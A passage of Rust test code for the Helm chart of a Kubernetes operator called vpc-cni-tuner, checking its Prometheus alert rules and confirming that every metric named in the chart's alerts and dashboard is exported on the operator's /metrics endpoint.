    assert_eq!(monitor.metadata.labels.unwrap()["release"], "prometheus");
    let rule = rules.get("tuner-vpc-cni-tuner").await.unwrap();
    let alerts: Vec<&str> = rule.data["spec"]["groups"][0]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["alert"].as_str().unwrap())
        .collect();
    assert!(alerts.contains(&"VpcCniTunerPolicyNotReady"), "{alerts:?}");
    assert!(
        rule.data["spec"]["groups"][0]["rules"][0]["annotations"]["summary"]
            .as_str()
            .unwrap()
            .contains("{{ $labels.policy }}"),
        "Prometheus templates reach Prometheus unrendered"
    );
}

/// Every metric the chart's alerts and dashboard name is one the operator exports: read from
/// its real `/metrics` (a name counts when it has a sample or a `# TYPE` line; counters and
/// histograms by their `_total`, `_bucket`, `_sum` and `_count` series).
fn assert_alerts_and_dashboard_use_exported_metrics(metrics: &str) {
    let exported: std::collections::BTreeSet<String> = metrics
        .lines()
        .filter_map(|l| {
            l.strip_prefix("# TYPE ")
                .and_then(|t| t.split_whitespace().next())
                .map(str::to_owned)
                .or_else(|| {
                    (!l.starts_with('#'))
                        .then(|| l.split(['{', ' ']).next().unwrap_or_default().to_owned())
                })
        })
        .collect();
    let known = |name: &str| {
        exported.contains(name)
            || ["_total", "_bucket", "_sum", "_count"]
                .iter()
                .any(|s| name.strip_suffix(s).is_some_and(|b| exported.contains(b)))
    };
    for file in [
        "charts/vpc-cni-tuner/files/prometheus-rules.yaml",
        "charts/vpc-cni-tuner/files/dashboard.json",
    ] {
        let text = std::fs::read_to_string(format!("{ROOT}/{file}")).unwrap();
        let mut named = 0;
        for (at, _) in text
            .match_indices("vpc_cni_tuner_")
            .chain(text.match_indices("process_"))
        {
            let name: String = text[at..]
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect();
            named += 1;
            assert!(
                known(&name),
                "{file} names {name}, which /metrics lacks:\n{metrics}"
            );
        }
        assert!(named > 5, "{file}: {named} metric names");
    }
}
